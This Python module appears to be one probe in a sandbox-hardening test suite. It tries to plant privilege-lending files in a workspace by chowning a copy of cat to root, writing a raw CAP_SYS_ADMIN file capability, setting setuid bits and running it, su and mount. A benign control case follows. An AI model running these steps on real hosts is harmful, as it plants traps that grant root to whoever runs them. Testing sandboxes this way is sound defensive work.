"""Make files that lend privilege: set-user-id, of root, with capabilities.

Technique: A set-user-id program of root, or one with file capabilities, that lies in the workspace is a trap for
    whoever on the host runs or copies it, and inside it would lend the init's rights. Tried: giving files to root and
    to other ids, file capabilities, and a set-id program that is run.
Success: a file belongs to somebody else, has a capability, or a program runs with other ids than the caller's.
Stopped by: no_capabilities, no_new_privs, workspace
"""

import shutil
import subprocess


def attack():
    shutil.copy(os.path.realpath("/bin/cat"), "/work/trap")
    worked = []
    for owner in (0, 1, 65534, os.getuid() + 1):
        answer(os.chown, "/work/trap", owner, -1)
        answer(os.chown, "/work/trap", -1, owner)
    owned = os.stat("/work/trap")
    if (owned.st_uid, owned.st_gid) != (os.getuid(), os.getgid()):
        worked.append(f"belongs to {owned.st_uid}:{owned.st_gid}")
    # struct vfs_cap_data, version 2: effective, CAP_SYS_ADMIN permitted.
    if (
        answer(
            os.setxattr,
            "/work/trap",
            "security.capability",
            bytes.fromhex("01000002 00002000 00000000 00000000 00000000"),
        )
        is None
    ):
        worked.append("has a capability")
    os.chmod("/work/trap", 0o6755)
    for program in ("/work/trap", shutil.which("su") or "/work/trap", shutil.which("mount") or "/work/trap"):
        told = subprocess.run(
            [program, "/proc/self/status"], stdin=subprocess.DEVNULL, capture_output=True, text=True
        ).stdout
        ids = {word for line in told.split("\n") if line.startswith("Uid:") for word in line.split()[1:]}
        if ids - {str(os.getuid())}:
            worked.append(f"{program} runs as {ids}")
    return ", ".join(worked)


def twin():
    """Modes of one's own files can be set, set-user-id included, and owners kept by tools that try."""
    with open("/work/tool", "w") as file:
        file.write("#!/bin/sh\necho hello\n")
    os.chmod("/work/tool", 0o4755)
    os.chown("/work/tool", os.getuid(), os.getgid())
    assert subprocess.run(["/work/tool"], capture_output=True, text=True).stdout == "hello\n"
